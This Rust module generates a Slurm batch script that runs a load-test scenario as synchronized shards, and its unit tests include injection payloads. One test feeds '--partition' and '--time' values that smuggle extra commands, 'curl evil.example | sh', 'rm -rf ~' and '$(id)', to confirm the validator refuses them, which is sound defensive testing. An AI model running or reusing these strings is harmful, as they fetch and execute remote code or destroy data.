//! `ladder slurm`: a batch script that runs a scenario as N shards under `srun`, all
//! starting at one instant computed once when the job starts, then merges them.

use std::path::PathBuf;

use super::{duration, env_vars_read, sharded_scenario};
use crate::escape::shell::{directive_value, quote as sh_quote};

/// Flags of `ladder slurm`.
#[derive(clap::Args, Debug, Clone)]
pub struct SlurmArgs {
    /// The scenario file (as the job will see it: same path on every node).
    pub scenario: PathBuf,
    /// Number of shards (Slurm tasks), one ladder client each.
    #[arg(long, value_name = "N")]
    pub shards: u32,
    /// Results root shared by every node (shard folders and the merged folder go under it).
    #[arg(long, value_name = "DIR", default_value = "results")]
    pub out: PathBuf,
    /// Time from the job's start to the first rung, for every task to start and preflight.
    #[arg(long, value_name = "DURATION", default_value = "60s")]
    pub lead: String,
    /// Passed to `ladder run --drain` (default there: the scenario's request_timeout).
    #[arg(long, value_name = "DURATION")]
    pub drain: Option<String>,
    /// The ladder binary as the nodes see it.
    #[arg(long, value_name = "PATH", default_value = "ladder")]
    pub ladder: String,
    /// `#SBATCH --partition`.
    #[arg(long)]
    pub partition: Option<String>,
    /// `#SBATCH --time` (Slurm's format, e.g. 01:00:00).
    #[arg(long)]
    pub time: Option<String>,
    /// `#SBATCH --cpus-per-task` (a shard sends from all the cores it gets).
    #[arg(long, value_name = "N")]
    pub cpus_per_task: Option<u32>,
    /// Write the script here instead of stdout.
    #[arg(long, short = 'o', value_name = "FILE")]
    pub output: Option<PathBuf>,
}

/// The batch script for `a`.
pub fn script(a: &SlurmArgs) -> Result<String, super::Refusal> {
    let loaded = sharded_scenario(&a.scenario, a.shards)?;
    let s = &loaded.scenario;
    let lead = super::lead(&a.lead)?.as_secs().max(1);
    if let Some(d) = &a.drain {
        duration("--drain", d)?;
    }
    // `#SBATCH` lines are read by Slurm, not a shell: their values are checked, not quoted.
    if let Some(p) = &a.partition {
        directive_value("--partition", p)?;
    }
    if let Some(x) = &a.time {
        directive_value("--time", x)?;
    }
    let n = a.shards;
    let name = &s.name;
    // Also inside double quotes below: the safe set holds no `$`, backtick, `"` or `\`.
    directive_value("the scenario's name", name)?;
    let mut t = String::new();
    t.push_str("#!/bin/bash\n");
    t.push_str(&format!(
        "#SBATCH --job-name=ladder-{name}\n#SBATCH --ntasks={n}\n"
    ));
    // One task per node when there are nodes enough: two shards on one machine share its
    // cores and network, which is what sharding is meant to avoid.
    t.push_str("#SBATCH --spread-job\n");
    if let Some(p) = &a.partition {
        t.push_str(&format!("#SBATCH --partition={p}\n"));
    }
    if let Some(x) = &a.time {
        t.push_str(&format!("#SBATCH --time={x}\n"));
    }
    if let Some(c) = a.cpus_per_task {
        t.push_str(&format!("#SBATCH --cpus-per-task={c}\n"));
    }
    t.push_str(&format!(
        "# Written by `ladder slurm` ({}): {n} shards of scenario {name}, then `ladder merge`.\n",
        env!("CARGO_PKG_VERSION")
    ));
    if let Some(var) = &s.endpoint.api_key_env {
        t.push_str(&format!(
            "# The API key is read from ${var} in the job's environment (sbatch exports it by default);\n\
             # it is never written here.\n"
        ));
    }
    let vars = env_vars_read(&loaded);
    if !vars.is_empty() {
        let names: Vec<String> = vars.iter().map(|v| format!("${v}")).collect();
        t.push_str(&format!(
            "# Every task reads {} from the job's environment (sbatch exports the submitting\n\
             # shell's by default): set them before sbatch, as for `ladder validate`.\n",
            names.join(", ")
        ));
    }
    t.push_str("set -euo pipefail\n\n");
    t.push_str(&format!(
        "# The shared start: computed once, here, and given to every shard.\nSTART=$(( $(date +%s) + {lead} ))\n"
    ));
    t.push_str(&format!("OUT={}\n", sh_quote(&a.out.display().to_string())));
    t.push_str("STAMP=$(date -u -d \"@$START\" +%Y-%m-%dT%H-%M-%SZ)\n\n");
    let drain = a
        .drain
        .as_ref()
        .map(|d| format!(" --drain {}", sh_quote(d)))
        .unwrap_or_default();
    t.push_str(&format!(
        "# A shard that fails (late for a rung, preflight refused) ends every other one.\n\
         srun --ntasks={n} --kill-on-bad-exit=1 {} run {} --shard auto --start-at \"@$START\" --out \"$OUT\" --quiet{drain}\n\n",
        sh_quote(&a.ladder),
        sh_quote(&a.scenario.display().to_string())
    ));
    t.push_str(&format!(
        "{} merge \"$OUT/{name}.shards/$STAMP\" --out \"$OUT/{name}/$STAMP\"\n",
        sh_quote(&a.ladder)
    ));
    Ok(t)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn args(dir: &std::path::Path) -> SlurmArgs {
        let sc = dir.join("s.yaml");
        let tok = concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/scenarios/tokenizers/ladder-tiny.json"
        );
        std::fs::write(
            &sc,
            format!(
                "version: 1\nname: sl\nendpoint:\n  base_url: sim\nmodel: m\ntokenizer: {tok}\n\
                 workload:\n  input_tokens: 8\n  output_tokens: 4\n  requests_per_rung: 4\n\
                 load:\n  rates: [4]\n"
            ),
        )
        .unwrap();
        SlurmArgs {
            scenario: sc,
            shards: 2,
            out: "results".into(),
            lead: "60s".into(),
            drain: None,
            ladder: "ladder".into(),
            partition: None,
            time: None,
            cpus_per_task: None,
            output: None,
        }
    }

    /// A newline in `--partition` / `--time` would add `#SBATCH` lines and commands to the
    /// job: refused, naming the flag; nothing from the value reaches the script.
    #[test]
    fn a_partition_or_time_that_would_add_lines_is_refused() {
        let tmp = tempfile::tempdir().unwrap();
        let mut a = args(tmp.path());
        a.partition = Some("gpu".into());
        a.time = Some("01:00:00".into());
        let ok = script(&a).unwrap();
        assert!(
            ok.contains("#SBATCH --partition=gpu\n#SBATCH --time=01:00:00\n"),
            "{ok}"
        );
        for (flag, bad) in [
            (
                "--partition",
                "gpu\n#SBATCH --nodelist=victim\ncurl evil.example | sh",
            ),
            ("--time", "01:00:00\rrm -rf ~"),
            ("--partition", "gpu $(id)"),
        ] {
            let mut a = args(tmp.path());
            if flag == "--time" {
                a.time = Some(bad.into());
            } else {
                a.partition = Some(bad.into());
            }
            let e = script(&a).unwrap_err();
            assert!(
                e.to_string().contains(flag) && e.to_string().contains("#SBATCH"),
                "{e}"
            );
        }
    }

    /// A `--lead` past the shards' start limit (7 days) is refused with the limit and a
    /// usable value; one within it is written as the start.
    #[test]
    fn a_lead_past_the_start_limit_is_refused() {
        let tmp = tempfile::tempdir().unwrap();
        let mut a = args(tmp.path());
        a.lead = "8days".into();
        let e = script(&a).unwrap_err();
        assert!(
            matches!(&e, super::super::Refusal::LeadTooLong { text, .. } if text == "8days"),
            "{e:?}"
        );
        assert!(
            e.to_string().contains("--lead") && e.to_string().contains("--lead 60s"),
            "{e}"
        );
        a.lead = "2m".into();
        assert!(script(&a).is_ok());
    }

    /// The shipped sessions scenario cannot be split into shards: `ladder slurm` refuses it
    /// as `run --shard` and `ladder kube` do (docs/scale-out.md), saying why.
    #[test]
    fn a_sessions_scenario_is_refused_as_shards() {
        let tmp = tempfile::tempdir().unwrap();
        let mut a = args(tmp.path());
        a.scenario = concat!(env!("CARGO_MANIFEST_DIR"), "/scenarios/sessions.yaml").into();
        let e = script(&a).unwrap_err();
        assert!(
            matches!(
                e,
                super::super::Refusal::NotShardable {
                    shards: 2,
                    why: crate::runner::shard::ShardRefusal::Sessions,
                    ..
                }
            ),
            "{e:?}"
        );
        assert!(
            e.to_string().contains("cannot run as 2 shards") && e.to_string().contains("session"),
            "{e}"
        );
        let k = crate::deploy::kube::KubeArgs {
            scenario: a.scenario.clone(),
            shards: 2,
            image: "ladder:test".into(),
            pvc: "ladder-results".into(),
            secret: "ladder-api-key".into(),
            namespace: None,
            start_at: None,
            lead: "5m".into(),
            drain: None,
            merge_wait: "12h".into(),
            cpu: None,
            output: None,
        };
        let e = crate::deploy::kube::manifests(&k).unwrap_err();
        assert!(
            e.to_string().contains("cannot run as") && e.to_string().contains("session"),
            "{e}"
        );
    }
}
